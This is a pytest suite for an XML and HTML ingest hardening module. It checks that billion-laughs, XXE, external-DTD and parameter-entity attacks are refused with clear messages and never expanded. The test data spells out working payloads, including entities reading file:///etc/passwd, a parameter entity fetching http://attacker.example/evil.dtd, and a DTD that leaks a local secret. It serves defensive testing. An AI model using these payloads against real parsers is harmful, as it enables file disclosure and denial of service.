"""safe_xml.py, every way in: billion laughs, an external entity, an external DTD and a parameter entity are refused
with a message saying what and why, and nothing is ever expanded or fetched, even by a caller that skips the
prolog scan. The external files the attacks point at are real local files, so a parser that loaded them would
show their text."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from lxml import etree

from readingroom.ingest import safe_xml
from readingroom.ingest.base import IngestError, Source
from readingroom.ingest.da_page import RecordPageImporter
from readingroom.ingest.tei import TeiDocumentImporter

HOSTILE = Path(__file__).resolve().parent / "hostile"
SECRET = "TOPSECRET-PASSWD-LINE"
FROM_DTD = "TEXT-FROM-THE-DTD"

# tests/hostile's TEI attacks, and the start of the refusal each must get (the line and the declaration named).
ATTACKS = {
    "billion-laughs": (
        "tei-billion-laughs.xml",
        "XML with entity declarations is refused (line 2: 9 declared, "
        'the first <!ENTITY lol "lol">): entities can expand',
    ),
    "external-entity": (
        "tei-external-entity.xml",
        "XML with an external entity is refused (line 2: <!ENTITY xxe "
        'SYSTEM "file:///etc/passwd">): external entities can read',
    ),
    "external-dtd": (
        "tei-external-dtd.xml",
        'XML with a DOCTYPE is refused (line 2: <!DOCTYPE TEI SYSTEM "http://www.tei-c.org/',
    ),
    "parameter-entity": (
        "tei-parameter-entity.xml",
        "XML with an external entity is refused (line 2: <!ENTITY % "
        'remote SYSTEM "http://attacker.example/evil.dtd">)',
    ),
}
NAMES = list(ATTACKS)


def hostile(name: str) -> bytes:
    return (HOSTILE / ATTACKS[name][0]).read_bytes()


@pytest.fixture
def local_attacks(tmp_path) -> dict[str, bytes]:
    """The same four attacks aimed at local files: a secret, and a DTD that declares an entity and, through a
    parameter entity, an external one reading the secret."""
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    dtd = tmp_path / "evil.dtd"
    dtd.write_text(
        f'<!ENTITY ext "{FROM_DTD}">\n'
        f"<!ENTITY % inner \"<!ENTITY leak SYSTEM '{secret.as_uri()}'>\">\n%inner;\n"
    )
    laughs = (
        b"<!DOCTYPE"
        + hostile("billion-laughs").split(b"<!DOCTYPE", 1)[1].split(b"<TEI", 1)[0]
        + b"<r>&lol9;</r>"
    )
    return {
        "billion-laughs": laughs,
        "external-entity": f'<!DOCTYPE r [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]><r>a&xxe;b</r>'.encode(),
        "external-dtd": f'<!DOCTYPE r SYSTEM "{dtd.as_uri()}"><r>a&ext;&leak;b</r>'.encode(),
        "parameter-entity": f'<!DOCTYPE r [<!ENTITY % remote SYSTEM "{dtd.as_uri()}"> %remote;]>'
        "<r>a&ext;&leak;b</r>".encode(),
    }


def assert_not_expanded(markup: str) -> None:
    assert SECRET not in markup and FROM_DTD not in markup
    assert "lollol" not in markup


# -- the prolog scan -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", NAMES)
def test_check_prolog_refuses_before_parsing(name):
    with pytest.raises(safe_xml.XmlRefused) as refused:
        safe_xml.check_prolog(HOSTILE / ATTACKS[name][0], schema="TEI P5")
    assert str(refused.value).startswith(ATTACKS[name][1])
    assert refused.value.in_prolog


@pytest.mark.parametrize("name", NAMES)
def test_refuse_doctype_names_the_declaration(name, local_attacks):
    with pytest.raises(
        safe_xml.XmlRefused,
        match=r"^XML with (an external entity|entity declarations|a DOCTYPE) "
        r"is refused \(line 1: ",
    ):
        safe_xml.refuse_doctype(local_attacks[name])


def test_the_scan_skips_comments_and_instructions_but_not_a_doctype_after_them():
    head = (
        b'\xef\xbb\xbf<?xml version="1.0"?>\n<!-- <!DOCTYPE in a comment is harmless -->\n'
        b'<?xml-model href="tei_all.rng"?>\n<!doctype TEI [<!ENTITY org "Department of State">]>\n<TEI/>'
    )
    with pytest.raises(
        safe_xml.XmlRefused, match=r"^XML with entity declarations is refused \(line 4: 1 declared"
    ):
        safe_xml.refuse_doctype(head)
    safe_xml.refuse_doctype(b'<?xml version="1.0"?>\n<!-- <!DOCTYPE x> -->\n<TEI xmlns="x"/>')  # no DOCTYPE


def test_a_utf16_doctype_is_refused():
    with pytest.raises(safe_xml.XmlRefused, match="external entity"):
        safe_xml.refuse_doctype(
            '\ufeff<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r/>'.encode("utf-16")
        )


def test_a_prolog_longer_than_any_real_one_is_refused(tmp_path):
    path = tmp_path / "long.xml"
    path.write_bytes(b"<!--" + b"x" * safe_xml.PROLOG_LIMIT + b"-->\n<!DOCTYPE r>\n<r/>")
    with pytest.raises(IngestError, match="the XML prolog .* runs over 1 MiB before the root element"):
        safe_xml.check_prolog(path)


# -- parsing: the parser refuses what the scan was not shown, and expands nothing whatever it is shown --------


@pytest.mark.parametrize("name", NAMES)
def test_iterparse_refuses_at_the_first_element(name, local_attacks):
    """A caller that skipped the scan: the DOCTYPE is refused before the first event reaches it."""
    for data in (hostile(name), local_attacks[name]):
        seen = []
        with pytest.raises((safe_xml.XmlRefused, etree.XMLSyntaxError)) as refused:
            for event, el in safe_xml.iterparse(io.BytesIO(data), schema="TEI P5"):
                seen.append((event, el))
        assert seen == []
        if isinstance(refused.value, safe_xml.XmlRefused):
            assert str(refused.value) == (
                "XML with a DOCTYPE is refused: a DOCTYPE can declare entities or load "
                "files from elsewhere. Remove it; TEI P5 needs none"
            )
            assert not refused.value.in_prolog
        else:  # billion laughs: libxml2's own amplification limit stops it even sooner
            assert "amplification" in str(refused.value)


def test_a_doctype_behind_a_long_comment_reaches_the_parser_and_is_refused_there():
    data = (
        b"<!--" + b"x" * 70000 + b'-->\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>'
    )
    safe_xml.refuse_doctype(data[: 1 << 16])  # the prolog does not end within what the caller scanned
    with pytest.raises(safe_xml.XmlRefused) as refused:
        list(safe_xml.iterparse(io.BytesIO(data)))
    assert str(refused.value).startswith("XML with a DOCTYPE is refused")


@pytest.mark.parametrize("name", NAMES)
def test_parse_bytes_refuses(name, local_attacks):
    with pytest.raises(safe_xml.XmlRefused, match=r"^XML with .* is refused \(line 2: "):
        safe_xml.parse_bytes(hostile(name), schema="TEI P5")
    with pytest.raises(safe_xml.XmlRefused, match=r"^XML with .* is refused \(line 1: "):
        safe_xml.parse_bytes(local_attacks[name])


def test_parse_bytes_reads_a_document_without_doctype():
    root = safe_xml.parse_bytes(b'<?xml version="1.0"?>\n<!-- dropped --><r><?pi dropped?>a &#160;b</r>')
    assert etree.tostring(root) == "<r>a \u00a0b</r>".encode("ascii", "xmlcharrefreplace")


@pytest.mark.parametrize("name", NAMES)
def test_the_parser_options_alone_expand_nothing(name, local_attacks):
    """Without either refusal, the options by themselves: no entity expanded, no file or DTD read."""
    for parse in (
        lambda d: etree.fromstring(d, etree.XMLParser(**safe_xml.PARSER_OPTIONS)),
        lambda d: list(etree.iterparse(io.BytesIO(d), **safe_xml.PARSER_OPTIONS))[-1][1],
    ):
        try:
            root = parse(local_attacks[name])
        except etree.XMLSyntaxError as e:  # billion laughs: refused by libxml2's amplification limit
            assert name == "billion-laughs" and "amplification" in str(e)
            continue
        markup = etree.tostring(root, encoding="unicode")
        assert_not_expanded(markup)
        assert len(markup) < 100


# -- HTML record pages ---------------------------------------------------------------------------------------


def html_attack(name: str, local_attacks: dict[str, bytes]) -> bytes:
    """The attack's DOCTYPE on an HTML page that uses its entities."""
    doctype = local_attacks[name].split(b"<r>", 1)[0].replace(b"<!DOCTYPE r", b"<!DOCTYPE html")
    return doctype + b"<html><body><p>October 15, 1968</p><p>a &xxe; &lol9; &ext; &leak; b</p></body></html>"


@pytest.mark.parametrize("name", ["billion-laughs", "external-entity", "parameter-entity"])
def test_parse_html_refuses_a_doctype_that_declares_entities(name, local_attacks):
    expected = {
        "billion-laughs": "HTML with entity declarations is refused (line 1: 9 declared",
        "external-entity": "HTML with an external entity is refused (line 1: <!ENTITY xxe SYSTEM",
        "parameter-entity": "HTML with an external entity is refused (line 1: <!ENTITY % remote SYSTEM",
    }
    with pytest.raises(safe_xml.XmlRefused) as refused:
        safe_xml.parse_html(html_attack(name, local_attacks))
    assert str(refused.value).startswith(expected[name])


def test_parse_html_refuses_any_internal_subset():
    with pytest.raises(safe_xml.XmlRefused, match=r"HTML with a DOCTYPE that declares anything is refused"):
        safe_xml.parse_html(b"<!DOCTYPE html [ <!ATTLIST p x CDATA 'y'> ]><html><body><p>t</p></body></html>")


def test_parse_html_keeps_an_external_dtd_unread(local_attacks):
    """Saved XHTML pages name their DTD by URL, so a page's DOCTYPE is accepted; the HTML parser never reads it."""
    root = safe_xml.parse_html(html_attack("external-dtd", local_attacks))
    assert root.text_content() == "October 15, 1968a &xxe; &lol9; &ext; &leak; b"
    xhtml = (
        b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
        b'"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html><body><p>&nbsp;t</p></body></html>'
    )
    assert safe_xml.parse_html(xhtml).text_content() == "\u00a0t"


@pytest.mark.parametrize("name", NAMES)
def test_the_html_parser_alone_expands_nothing(name, local_attacks):
    from lxml import html as lhtml

    root = lhtml.document_fromstring(html_attack(name, local_attacks), parser=safe_xml.html_parser())
    assert_not_expanded(lhtml.tostring(root, encoding="unicode"))


# -- through the importers -----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", NAMES)
def test_the_tei_importer_refuses(name):
    path = HOSTILE / ATTACKS[name][0]
    with pytest.raises(safe_xml.XmlRefused) as refused:
        list(TeiDocumentImporter().read(Source(path, path.stat().st_size)))
    assert str(refused.value).startswith(ATTACKS[name][1])


@pytest.mark.parametrize("name", ["billion-laughs", "external-entity", "parameter-entity"])
def test_the_record_page_importer_refuses(name, local_attacks, tmp_path):
    path = tmp_path / "page.html"
    path.write_bytes(html_attack(name, local_attacks))
    with pytest.raises(
        safe_xml.XmlRefused, match=r"^HTML with (an external entity|entity declarations) is refused"
    ):
        list(RecordPageImporter().read(Source(path, path.stat().st_size)))
